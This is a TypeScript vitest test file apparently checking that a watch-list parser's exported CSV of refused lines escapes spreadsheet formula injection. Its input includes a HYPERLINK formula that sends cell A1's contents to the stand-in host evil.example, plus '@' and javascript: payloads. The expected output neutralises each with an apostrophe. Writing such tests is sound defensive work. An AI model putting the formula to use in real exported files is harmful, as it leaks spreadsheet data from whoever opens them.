import { expect, test } from 'vitest';
import { refusedFile } from '../../../components/watch/refused-file.ts';
import { createTranslator } from '../../../lib/i18n/create-translator.ts';
import { csvCells } from '../../../lib/watch/csv-row.ts';
import { ListParser } from '../../../lib/watch/parse-list.ts';

test('a line of somebody else cannot become a formula, and comes out readable', async () => {
  const t = await createTranslator('en', ['watch']);
  const parser = new ListParser();
  parser.push('=HYPERLINK("http://evil.example/?"&A1,"x")\n@x\njavascript:1\n"quo,ted');
  const rows = refusedFile(parser.end(), t).replace('\ufeff', '').split('\r\n').slice(0, -1);
  const cells = rows.map((row) => csvCells(row));
  expect(cells.map((row) => (Array.isArray(row) ? [row[0], row[1], row[3]] : row))).toEqual([
    ['Line', 'Code', 'What stood there'],
    ['1', 'no-address', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ['2', 'no-address', "'@x"],
    ['3', 'scheme', 'javascript:1'],
    ['4', 'no-address', '"quo,ted'],
  ]);
});
